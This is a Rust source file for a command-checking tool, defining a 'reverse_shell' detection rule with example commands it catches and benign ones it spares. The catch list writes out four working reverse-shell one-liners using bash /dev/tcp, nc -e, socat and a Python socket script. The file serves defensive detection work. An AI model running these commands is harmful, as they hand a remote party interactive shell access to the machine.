//! `reverse_shell`: shells that listen or call out.

use super::Rule;
use crate::effect::{Effect, Kind};

pub(crate) const RULE: Rule = Rule {
    says: "connects a shell to the network",
    keys: &[],
    matches,
    catches: &[
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "nc -e /bin/sh host 9",
        "socat TCP:h:9 EXEC:/bin/sh",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    ],
    spares: &["nc -zv host 22", "ssh host", "telnet localhost 25", "python3 -m http.server"],
    ..Rule::new("reverse_shell")
};

fn matches(effect: &Effect) -> bool {
    effect.kind == Kind::ReverseShell
}
